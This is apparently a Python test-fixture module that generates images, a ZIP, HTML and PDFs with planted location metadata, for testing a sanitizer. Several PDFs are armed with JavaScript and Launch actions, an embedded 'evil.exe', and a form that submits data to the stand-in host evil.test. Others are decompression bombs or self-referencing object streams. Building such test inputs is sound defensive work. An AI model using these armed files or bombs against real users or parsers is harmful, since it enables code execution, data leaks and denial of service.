"""Files that somebody might send, made on the spot: none is fetched from anywhere."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

# Stands in whatever must not be kept. No encoder of pictures or papers makes these bytes by itself.
MARKER: Final = b"GPS-20.4388-106.1621-Tran-Thi-Mo"
WORDS: Final = MARKER.decode()


def picture(kind: str, size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    made = Image.new("RGB", size, (180, 60, 40))
    out = BytesIO()
    made.save(out, kind, **options)
    return out.getvalue()


def photograph(kind: str, size: tuple[int, int] = (600, 400)) -> bytes:
    """With noise, so that the pixels are most of the file and cutting it anywhere cuts pixels."""
    made = Image.effect_noise(size, 80).convert("RGB")
    out = BytesIO()
    made.save(out, kind)
    return out.getvalue()


def exif(thumbnail: bytes = b"") -> bytes:
    """EXIF with a place, a name, and perhaps a small picture of its own."""
    told = Image.Exif()
    told[0x010E] = told[0x013B] = WORDS
    place = told.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (20.0, 26.0, 19.0), "E", (106.0, 9.0, 44.0)
    place[29] = WORDS
    if thumbnail:
        told.get_ifd(1)[0x0201] = thumbnail
    return told.tobytes()


def xmp() -> bytes:
    return (
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><exif:GPSLatitude>"
        + MARKER
        + b"</exif:GPSLatitude></x:xmpmeta>"
    )


def jpeg_with_everything() -> bytes:
    """EXIF with GPS and thumbnail, XMP, ICC, a comment, an unknown segment, a trailer."""
    plain = picture("JPEG", exif=exif(), xmp=xmp(), icc_profile=b"icc" + MARKER, comment=MARKER)
    segments = b"".join(
        b"\xff" + marker + struct.pack(">H", len(body) + 2) + body
        for marker, body in (
            (b"\xe1", b"Exif\0\0" + MARKER),
            (b"\xed", b"Photoshop 3.0\0" + MARKER),
            (b"\xea", MARKER),
        )
    )
    return plain[:2] + segments + plain[2:] + MARKER


def jpeg_with_a_thumbnail() -> bytes:
    small = picture("JPEG", (16, 16), comment=MARKER)
    return picture("JPEG", exif=exif(small))


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 8, height: int = 8, *extra: bytes, bits: int = 8, trailer: bytes = b"") -> bytes:
    """A PNG in grey, of zeroes, with chunks between its head and its pixels."""
    head = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (width * bits + 7) // 8)
    rows = (
        b"".join(packer.compress(row * min(500, height - done)) for done in range(0, height, 500))
        + packer.flush()
    )
    parts = (chunk(b"IHDR", head), *extra, chunk(b"IDAT", rows), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + trailer


def png_with_everything() -> bytes:
    return png(
        8,
        8,
        chunk(b"iCCP", b"icc\0\0" + zlib.compress(MARKER)),
        chunk(b"tEXt", b"Comment\0" + MARKER),
        chunk(b"zTXt", b"Author\0\0" + zlib.compress(MARKER)),
        chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp()),
        chunk(b"eXIf", exif()[6:]),
        chunk(b"prIv", MARKER),
        trailer=MARKER,
    )


def png_text_bomb(kind: bytes, size: int = 400_000_000) -> bytes:
    """Text of 400 MB in some hundred kilobytes."""
    packer, block = zlib.compressobj(9), bytes(1_000_000)
    packed = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    head = {b"zTXt": b"Comment\0\0", b"iTXt": b"Comment\0\x01\0\0\0", b"iCCP": b"icc\0\0"}[kind]
    return png(8, 8, chunk(kind, head + packed))


def webp_with_everything() -> bytes:
    made = picture("WEBP", exif=exif(), xmp=xmp(), icc_profile=b"icc" + MARKER)
    body = made[12:] + b"JUNK" + struct.pack("<I", len(MARKER)) + MARKER
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body + MARKER


def moving(kind: str) -> bytes:
    """Three frames: red, green, blue."""
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("#c00000", "#00c000", "#0000c0")]
    out = BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def zipped() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as packed:
        packed.writestr("word/document.xml", WORDS)
        packed.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


HTML: Final = b"<!doctype html><script>alert('" + MARKER + b"')</script>"


# ---- papers ------------------------------------------------------------------------------------------


def paper() -> pikepdf.Pdf:
    """One page that says something."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(400, 300))
    page.obj.Contents = Stream(made, b"0 0 100 100 re f")
    return made


def written(made: pikepdf.Pdf, **options: Any) -> bytes:
    out = BytesIO()
    made.save(out, **options)
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{WORDS}')")


def note(**more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **more)


def armed_papers() -> dict[str, bytes]:
    """Each with one thing that acts or tells, and the marker in it."""
    return {name: written(make()) for name, make in _ARMED.items()}


def _with(put: Any) -> Any:
    def make() -> pikepdf.Pdf:
        made = paper()
        put(made)
        return made

    return make


def _embed(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = MARKER


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=WORDS, Win=Dictionary(F=WORDS, P=WORDS))


def _names(made: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=["a", made.make_indirect(script())])
    made.Root.Names = Dictionary(JavaScript=tree, URLS=Dictionary(Names=["b", WORDS]))


def _fields(made: pikepdf.Pdf) -> None:
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"https://evil.test/{WORDS}"))
    field = made.make_indirect(
        note(Subtype=Name.Widget, FT=Name.Btn, T="button", A=submit, AA=Dictionary(U=submit))
    )
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=[field], XFA=["template", Stream(made, MARKER)])


def _calculated(made: pikepdf.Pdf) -> None:
    field = made.make_indirect(Dictionary(FT=Name.Tx, T="sum", AA=Dictionary(C=script(), K=script())))
    made.Root.AcroForm = Dictionary(Fields=[field], CO=[field])


def _notes(made: pikepdf.Pdf) -> None:
    chain = Dictionary(S=Name.GoTo, D=[made.pages[0].obj, Name.Fit], Next=[script()])
    actions = [
        Dictionary(S=Name.URI, URI=f"file:///{WORDS}"),
        Dictionary(S=Name.GoToR, F=WORDS, D=[0, Name.Fit]),
        Dictionary(S=Name.GoToE, F=WORDS, T=Dictionary(R=Name.C, N=WORDS)),
        Dictionary(S=Name.ImportData, F=WORDS),
        Dictionary(S=Name.Rendition, JS=WORDS),
        Dictionary(S=Name.Hide, T=WORDS, Next=script()),
        chain,
    ]
    made.pages[0].obj.Annots = Array(
        [note(Subtype=Name.Link, A=made.make_indirect(action), PA=action) for action in actions]
        + [
            note(
                Subtype=Name.FileAttachment,
                FS=Dictionary(Type=Name.Filespec, F=WORDS, EF=Dictionary(F=Stream(made, MARKER))),
            )
        ]
        + [note(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=WORDS))]
        + [note(Subtype=Name.Screen, A=script()), note(Subtype=Name.Movie, Movie=Dictionary(F=WORDS))]
        + [note(Subtype=Name.Text, T=WORDS, M="D:20260101", NM=WORDS, CreationDate=WORDS, Contents="xem")]
    )


def _page_acts(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script(), C=script())
    made.Root.AA = Dictionary(WC=script(), WS=script(), DP=script())


def _outlines(made: pikepdf.Pdf) -> None:
    made.Root.Outlines = outlines = made.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    entry = made.make_indirect(Dictionary(Title="x", Parent=outlines, A=script()))
    outlines.First = outlines.Last = entry


def _metadata(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = WORDS
    made.docinfo["/" + WORDS] = "x"
    for holder in (made.Root, made.pages[0].obj):
        holder.Metadata = Stream(made, xmp())
        holder.PieceInfo = Dictionary(Word=Dictionary(Private=WORDS))
        holder.LastModified = WORDS
    made.pages[0].obj.Thumb = Stream(made, MARKER)
    made.Root.OutputIntents = [Dictionary(Info=WORDS, DestOutputProfile=Stream(made, MARKER))]
    made.Root.SpiderInfo = Dictionary(V=1, C=[Dictionary(URL=WORDS)])
    made.Root[Name("/" + WORDS)] = WORDS
    made.pages[0].obj[Name("/" + WORDS)] = WORDS
    made.trailer[Name("/" + WORDS)] = WORDS


def _signed(made: pikepdf.Pdf) -> None:
    seal = Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=MARKER, Name=WORDS, Location=WORDS)
    field = made.make_indirect(Dictionary(FT=Name.Sig, T="sig", V=made.make_indirect(seal)))
    made.Root.AcroForm = Dictionary(Fields=[field], SigFlags=3)
    made.Root.Perms = Dictionary(DocMDP=seal)
    made.Root.DSS = Dictionary(Certs=[Stream(made, MARKER)])


def _photo(content: bytes, filters: list[Name]) -> Any:
    def put(made: pikepdf.Pdf) -> None:
        image = Stream(made, content)
        image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 64, "/Height": 48})
        image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Array(filters)
        image.Metadata = Stream(made, xmp())
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))

    return put


def _behind_a_stream(made: pikepdf.Pdf) -> None:
    """Bytes after the end of what is packed, and a second layer of nothing but itself."""
    drawn = Stream(made, zlib.compress(b"0 0 9 9 re f", 0) + MARKER)
    drawn.Filter = Name.FlateDecode
    made.pages[0].obj.Contents = drawn


def _elsewhere(made: pikepdf.Pdf) -> None:
    drawn = Stream(made, b"0 0 9 9 re f")
    drawn.F = Dictionary(Type=Name.Filespec, F=WORDS)
    made.pages[0].obj.Contents = drawn


def jpeg2000() -> bytes:
    """With XMP in a box of its own and a comment among the pixels' heads, if it can be made at all."""

    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + kind + body

    comment = b"\xff\x64" + struct.pack(">HH", len(MARKER) + 4, 1) + MARKER
    pixels = (
        b"\xff\x4f\xff\x51" + struct.pack(">H", 4) + b"ab" + comment + b"\xff\x90" + b"pixels" + b"\xff\xd9"
    )
    return (
        box(b"jP  ", b"\r\n\x87\n")
        + box(b"ftyp", b"jp2 \0\0\0\0jp2 ")
        + box(b"uuid", bytes(16) + xmp())
        + box(b"xml ", MARKER)
        + struct.pack(">I", 1)
        + b"jp2c"
        + struct.pack(">Q", len(pixels) + 16)
        + pixels
        + box(b"free", MARKER)
    )  # fmt: skip because a box a line reads best


_ARMED: dict[str, Any] = {
    "script when opened": _with(lambda made: setattr(made.Root, "OpenAction", made.make_indirect(script()))),
    "launch": _with(_launch),
    "embedded file": _with(_embed),
    "scripts in the tree of names": _with(_names),
    "form that sends itself, XFA": _with(_fields),
    "form that calculates": _with(_calculated),
    "links and remarks that act": _with(_notes),
    "pages and paper that act": _with(_page_acts),
    "bookmarks that act": _with(_outlines),
    "metadata everywhere": _with(_metadata),
    "signature": _with(_signed),
    "photo with GPS": _with(_photo(jpeg_with_everything(), [Name.DCTDecode])),
    "photo with GPS, packed": _with(
        _photo(zlib.compress(jpeg_with_everything()), [Name.FlateDecode, Name.DCTDecode])
    ),
    "photo with GPS, packed in letters": _with(
        _photo(jpeg_with_everything().hex().encode() + b">", [Name.ASCIIHexDecode, Name.DCTDecode])
    ),
    "photo with GPS, packed twice": _with(
        _photo(
            zlib.compress(zlib.compress(jpeg_with_everything())),
            [Name.FlateDecode, Name.FlateDecode, Name.DCTDecode],
        )
    ),
    "JPEG 2000 with XMP": _with(_photo(jpeg2000(), [Name.JPXDecode])),
    "behind a stream's end": _with(_behind_a_stream),
    "stream of another file": _with(_elsewhere),
}


def paper_bomb(layers: int = 1, size: int = 1_000_000_000) -> bytes:
    """A page whose drawing is 1 GB of zeroes, packed once or several times."""
    packer, block = zlib.compressobj(1), bytes(1_000_000)
    packed = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    made = paper()
    drawn = Stream(made, packed)
    drawn.Filter = Array([Name.FlateDecode] * layers)
    made.pages[0].obj.Contents = drawn
    return written(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def nested_object_streams() -> bytes:
    """Object streams that say that they stand in each other."""
    body = zlib.compress(b"1 0 << /Type /Catalog /Pages 2 0 R >>")
    head = b"%PDF-1.5\n"
    first = b"5 0 obj<</Type/ObjStm/N 1/First 4/Extends 5 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(
        body
    )
    at = len(head)
    stream = first + body + b"\nendstream endobj\n"
    entries = b"".join(
        struct.pack(">BIB", kind, place, index)
        for kind, place, index in (
            (0, 0, 255),
            (2, 5, 0),
            (2, 5, 0),
            (2, 5, 0),
            (2, 6, 0),
            (2, 5, 0),
            (1, at + len(stream), 0),
        )
    )
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(entries)
    start = at + len(stream)
    return head + stream + table + entries + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start
